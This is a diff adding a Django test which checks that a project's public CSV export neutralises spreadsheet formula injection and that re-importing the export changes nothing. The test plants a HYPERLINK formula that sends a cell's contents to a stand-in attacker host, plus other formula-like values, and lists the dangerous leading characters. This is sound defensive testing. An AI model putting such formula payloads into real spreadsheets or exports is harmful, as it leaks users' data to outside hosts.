@@ -364,3 +364,23 @@ def test_an_import_over_the_row_limit_is_refused_before_any_check(client, staff,
         reverse("observatory:initiative_import"), {"file": upload("lot.xlsx", buffer.getvalue())}
     )
     assert response.context["form"].errors["file"]
+
+
+def test_the_public_csv_neutralises_formulas_and_the_import_reads_them_back(
+    client, staff, catalogue
+):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
+    Initiative.objects.filter(slug="assemblee-etouvie").update(
+        title=hostile, summary="-1+2", lessons="@SUM(A1)"
+    )
+    response = client.get(reverse("observatory:export_csv"))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text))}
+    row = rows["assemblee-etouvie"]
+    assert row["title"] == "'" + hostile
+    assert row["brief_description"] == "'-1+2"
+    for value in (cell for line in rows.values() for cell in line.values()):
+        assert value[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+    plan = imports.import_check(imports.import_read(io.BytesIO(text.encode()), "export.csv"))
+    by_slug = {result.slug: result for result in plan.rows}
+    assert by_slug["assemblee-etouvie"].action == "unchanged", by_slug["assemblee-etouvie"].errors
